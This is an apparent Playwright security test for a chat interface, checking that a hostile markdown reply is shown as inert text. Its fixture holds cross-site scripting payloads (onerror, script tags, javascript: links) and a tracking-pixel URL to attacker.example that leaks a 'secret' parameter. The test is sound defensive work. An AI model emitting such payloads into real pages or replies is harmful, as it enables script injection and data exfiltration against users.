import { composer, expect, replies, sendAndWait, signUp, test } from './fixtures.ts'

const foreignHost = 'attacker.example'

const hostileReply = [
  'Here you go: <img src=x onerror=alert(1)> and <script>alert(2)</script> done.',
  '',
  '[claim your prize](javascript:alert(3)) or [this one](JaVaScRiPt:alert(4))',
  '',
  `![tracking pixel](https://${foreignHost}/pixel.png?leak=secret)`,
  '',
  `<a href="https://${foreignHost}/raw">raw anchor</a> <iframe src="https://${foreignHost}/frame"></iframe>`,
].join('\n')

test('a hostile reply runs no script, navigates nowhere and fetches nothing from a foreign origin', async ({
  page,
  upstream,
  account,
}) => {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const foreignRequests: string[] = []
  await page.route(`**://${foreignHost}/**`, (route) => {
    foreignRequests.push(route.request().url())
    return route.abort()
  })
  const imageRequests: string[] = []
  page.on('request', (request) => {
    if (request.resourceType() === 'image') imageRequests.push(request.url())
  })

  await upstream.replyTo('hostile-markdown', { kind: 'text', text: hostileReply })
  await signUp(page, account)
  const reply = await sendAndWait(page, 'Show me some hostile-markdown')
  const address = page.url()

  const check = async () => {
    const shown = replies(page).last()
    await expect(shown).toContainText('<img src=x onerror=alert(1)>')
    await expect(shown).toContainText('<script>alert(2)</script>')
    await expect(shown).toContainText('Image not loaded: tracking pixel')
    await expect(shown.locator('img, script, iframe')).toHaveCount(0)
    await expect(shown.getByRole('link', { name: 'claim your prize' })).toHaveCount(0)
    await expect(shown.getByRole('link', { name: 'raw anchor' })).toHaveCount(0)
    await shown.getByText('claim your prize').click()
    await shown.getByText('this one').click()
  }

  await check()
  await expect(reply).toContainText('done.')
  await page.reload()
  await check()

  expect(page.url()).toBe(address)
  expect(dialogs).toEqual([])
  expect(foreignRequests).toEqual([])
  expect(imageRequests.filter((url) => new URL(url).pathname === '/x')).toEqual([])
  await expect(composer(page)).toBeVisible()
})
